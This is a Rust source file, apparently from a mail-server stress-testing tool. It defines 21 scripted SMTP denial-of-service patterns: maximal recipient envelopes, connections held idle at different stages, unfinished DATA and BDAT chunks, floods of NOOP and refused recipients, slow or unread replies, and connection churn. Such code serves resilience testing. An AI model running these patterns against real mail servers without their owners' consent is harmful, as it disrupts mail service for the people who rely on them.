//! Kinds of attacks: ways to exhaust a shared resource of a server.

use super::stranger::Step;

/// A kind of attack.
#[derive(Clone, Copy, Debug)]
pub struct Kind {
    /// Name on the command line.
    pub name: &'static str,
    /// Steps of each connection.
    pub steps: fn() -> Vec<Step>,
}

/// All kinds.
pub const KINDS: [Kind; 21] = [
    Kind { name: "recipients", steps: || envelope("RCPT TO:<{}.{n}@example.com>\r\n") },
    Kind { name: "orcpt", steps: || envelope("RCPT TO:<postmaster> ORCPT=rfc822;{}.{n}\r\n") },
    Kind {
        name: "envelopes-after-accepted-mail",
        steps: || after_mail(envelope("RCPT TO:<{}.{n}@example.com>\r\n")),
    },
    Kind { name: "idle-at-greeting", steps: || vec![Step::Hold] },
    Kind { name: "idle-after-ehlo", steps: || vec![Step::Read(1), say(EHLO), Step::Hold] },
    Kind {
        name: "idle-after-mail",
        steps: || vec![Step::Read(1), say(EHLO), Step::Read(1), say(MAIL), Step::Hold],
    },
    Kind { name: "idle-after-data", steps: || data(b"") },
    Kind { name: "content-unfinished", steps: || data(&content(200_000)) },
    Kind { name: "content-after-accepted-mail", steps: || after_mail(data(&content(200_000))) },
    Kind { name: "field-unfinished", steps: || data(&[b"X: ", &vec![b'x'; 100_000][..]].concat()) },
    Kind { name: "chunks-without-last", steps: || chunks(500_000, 8) },
    Kind { name: "chunk-unfinished", steps: || chunks(100_000, 0) },
    Kind { name: "replies-unread", steps: || unread(b"NOOP\r\n") },
    Kind { name: "refusals-unread", steps: || unread(REFUSED_RCPT) },
    Kind {
        name: "replies-read-slowly",
        steps: || {
            vec![
                Step::Read(1),
                say(EHLO),
                Step::Read(1),
                Step::ReadSlowly,
                Step::Flood(b"NOOP\r\n"[..].into()),
            ]
        },
    },
    Kind {
        name: "log-lines",
        steps: || {
            vec![
                Step::Read(1),
                say(EHLO),
                Step::Read(1),
                say(b"MAIL FROM:<>\r\n"),
                Step::Flood(REFUSED_RCPT.into()),
            ]
        },
    },
    Kind {
        name: "commands",
        steps: || vec![Step::Read(1), say(EHLO), Step::Read(1), Step::Flood(b"NOOP\r\n"[..].into())],
    },
    Kind { name: "crumbs", steps: || vec![Step::Read(1), Step::Crumbs(EHLO.repeat(1000).into())] },
    Kind { name: "churn", steps: || vec![Step::Read(1), say(b"QUIT\r\n"), Step::Read(1), Step::Leave] },
    Kind { name: "churn-at-once", steps: || vec![Step::Leave] },
    Kind {
        name: "content-endless",
        steps: || {
            let mut steps = data(&content(1000));
            steps.pop();
            steps.push(Step::Flood(b"body of a message without end\r\n".repeat(1000).into()));
            steps
        },
    },
];

const EHLO: &[u8] = b"EHLO stranger.example\r\n";
const MAIL: &[u8] = b"MAIL FROM:<stranger@stranger.example>\r\n";
const RCPT: &[u8] = b"RCPT TO:<someone@example.com>\r\n";
const REFUSED_RCPT: &[u8] = b"RCPT TO:<someone@elsewhere.example>\r\n";

fn say(bytes: impl AsRef<[u8]>) -> Step {
    Step::Say(bytes.as_ref().into())
}

fn content(size: usize) -> Vec<u8> {
    let line = b"a line of the body of a message that does not end\r\n";
    [b"Subject: s\r\n\r\n", &line.repeat(size / line.len())[..]].concat()
}

/// Returns an envelope with the maximum number of recipients, of nearly the maximum length.
fn envelope(recipient: &str) -> Vec<Step> {
    let mut steps = vec![Step::Read(1), say(EHLO), Step::Read(1), say(MAIL), Step::Read(1)];
    for group in 0..10 {
        let recipients = (0..100).map(|number| {
            let number = (group * 100 + number).to_string();
            recipient.replace("{}", &"a".repeat(1900)).replace("{n}", &number)
        });
        steps.extend([say(recipients.collect::<String>()), Step::Read(100)]);
    }
    steps.push(Step::Hold);
    steps
}

/// Returns the steps preceded by a message that is accepted.
fn after_mail(steps: Vec<Step>) -> Vec<Step> {
    // Do not repeat the greeting, EHLO and its reply.
    let before = steps.iter().take(3).cloned();
    let mail = [say([MAIL, RCPT, b"BDAT 14 LAST\r\nSubject: s\r\n\r\n"].concat()), Step::Read(3)];
    before.chain(mail).chain(steps.iter().skip(3).cloned()).collect()
}

fn data(content: &[u8]) -> Vec<Step> {
    let begin = [MAIL, RCPT, b"DATA\r\n"].concat();
    vec![Step::Read(1), say(EHLO), Step::Read(1), say(begin), Step::Read(3), say(content), Step::Hold]
}

/// Returns complete chunks and the beginning of one more.
fn chunks(size: usize, whole: usize) -> Vec<Step> {
    let chunk = [format!("BDAT {size}\r\n").as_bytes(), &vec![b'x'; size][..]].concat();
    let mut steps = vec![Step::Read(1), say(EHLO), Step::Read(1), say([MAIL, RCPT].concat()), Step::Read(2)];
    for _ in 0..whole {
        steps.extend([say(&chunk), Step::Read(1)]);
    }
    steps.extend([say(&chunk[..chunk.len() / 2]), Step::Hold]);
    steps
}

/// Sends endless commands without reading a reply.
fn unread(command: &[u8]) -> Vec<Step> {
    let first = [say(EHLO), Step::Read(1), say(MAIL), Step::Read(1), Step::StopReading];
    [Step::Read(1)].into_iter().chain(first).chain([Step::Flood(command.repeat(100).into())]).collect()
}
